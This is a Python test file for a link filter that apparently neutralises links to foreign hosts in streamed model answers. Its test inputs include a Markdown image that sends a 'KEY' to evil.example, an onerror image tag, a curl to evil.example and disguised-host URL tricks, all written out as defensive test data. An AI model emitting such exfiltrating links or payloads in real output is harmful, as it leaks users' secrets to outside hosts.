"""Links that documents set do nothing; `markdown-it-py` says what a reader would get."""

import re
from collections.abc import Iterator, Sequence
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from index.answers.links import HELD, LinkFilter, without_foreign_links
from models.engine import Chunk, ChunkStream, merge

OWN = ["Please read https://own.example/x and www.own.example."]
READER = MarkdownIt("commonmark", {"html": True})
TAG = re.compile(r"<(?:a|img|div|script)[\s/]([^>]*)>", re.IGNORECASE)  # and what it would fetch

STRUCTURE = ["[", "]", "(", ")", "!", "<", ">", "`", "```", "~~~", "\n", "\n\n", " ", "    ", "- "]
MORE = [
    "> ",
    "1. ",
    ":",
    "](",
    "]:",
    "[x]: ",
    "[x]",
    "\\",
    "\r\n",
    "\r",
    "\t",
    "*",
    "# ",
    "|",
    "'t'",
]
HTML = ["<div>", "</div>", "<!--", "-->", "<br />", "<a href=https://evil.example>"]
PLACES = [
    *("https://evil.example/a", "HTTP://EVIL.example", "//evil.example", "www.evil.example"),
    *("https://own.example/p", "https://own.example@evil.example", "ftp://evil.example"),
    *(
        "&#104;ttps://evil.example",
        "https://own.example\\@evil.example",
        "/v1/keys",
        "evil.example",
    ),
    *("![x](https://evil.example/?q=1)", "<https://evil.example>", "<img src='//evil.example/q'>"),
]
ANSWERS = st.lists(st.sampled_from([*STRUCTURE, *MORE, *HTML, *PLACES, "text"]), max_size=18)


def filtered(text: str, sizes: Sequence[int] = ()) -> str:
    links, out, at, turn = LinkFilter(OWN), "", 0, 0
    while sizes and at < len(text):
        size = sizes[turn % len(sizes)]
        out += links.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    return out + links.feed(text[at:], final=True)


def tokens(text: str) -> Iterator[Token]:
    for token in READER.parse(text):
        yield token
        yield from token.children or ()


def addresses(text: str) -> list[str]:
    """Where a reader of this Markdown can be led, or what it fetches."""
    found: list[str] = []
    for token in tokens(text):
        found += [str(v) for k, v in token.attrs.items() if k in ("href", "src")]
        if token.type.startswith("html"):
            found += TAG.findall(token.content)
    return found


@settings(max_examples=400)
@given(ANSWERS.map("".join))
def test_no_reader_is_led_to_a_foreign_place(text: str) -> None:
    for address in addresses(filtered(text)):
        assert urlsplit(address).hostname == "own.example", address


@example("</v1/keys", [1])
@given(ANSWERS.map("".join), st.lists(st.integers(1, 9), min_size=1, max_size=6))
def test_how_an_answer_is_cut_makes_no_difference(text: str, sizes: list[int]) -> None:
    assert filtered(text, sizes) == filtered(text)


@given(ANSWERS.map("".join))
def test_no_word_is_lost(text: str) -> None:
    kept = re.sub(r"[\s`<>]", "", filtered(text))
    assert kept == re.sub(r"[\s`<>]", "", text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![p](https://evil.example/?q=KEY)", "![p] (`https://evil.example/?q=KEY`)"),
        ("[offer](https://evil.example/a(b)c).", "[offer] (`https://evil.example/a(b)c`)."),
        ("See https://evil.example/x.", "See `https://evil.example/x`."),
        ("(at www.evil.example, now)", "(at `www.evil.example`, now)"),
        ("<https://evil.example>!", "`https://evil.example`!"),
        ("[a][b]\n\n[b]: https://evil.example", "[a][b]\n\n[b] : `https://evil.example`"),
        ("<img src=x onerror=y>", "< img src=x onerror=y>"),
        ("[x](/v1/keys)", "[x] (/v1/keys)"),
        ("`a`https://evil.example`b`", "`a` `https://evil.example` `b`"),
    ],
)
def test_text_is_kept_and_the_address_shown(text: str, shown: str) -> None:
    assert filtered(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "[own](https://own.example/a?b=c) https://own.example/b. <https://own.example>",
        "```\ncurl https://evil.example [x](y)\n```",
        "use `curl https://evil.example` now",
        "a <b>bold</b><br/> word<br />, 3 < 4, x[1], f(2), http, who",
        "\u201cquoted\u201d [1] [2, 3].",
    ],
)
def test_harmless_text_stays(text: str) -> None:
    assert filtered(text) == text


@pytest.mark.parametrize("first", [" ~~~\n===\n\n", "1. x\n   ```\n", "<!--\n", "> <div>\n"])
def test_a_block_of_code_is_one_for_every_reader_or_none(first: str) -> None:
    shown = filtered(f"{first}```\n![x](https://evil.example)\n```\n")
    assert "](https" not in shown


def test_little_is_held_back() -> None:
    links, text = LinkFilter(OWN), "[x](https://" + "a" * 1000 + "\n```\n" + " " * 1000
    shown = 0
    for length, char in enumerate(text, 1):
        shown += len(links.feed(char))
        assert length - shown <= HELD


async def test_a_stream_is_filtered_and_all_else_passes() -> None:
    async def chunks() -> ChunkStream:
        yield Chunk("![x](https://ev", 3, reasoning="https://evil.example")
        yield Chunk("il.example)", 2)
        yield Chunk(finish_reason="stop")

    found = merge([chunk async for chunk in without_foreign_links(chunks(), OWN)])
    assert found.text == "![x] (`https://evil.example`)"
    assert (found.tokens, found.reasoning) == (5, "https://evil.example")
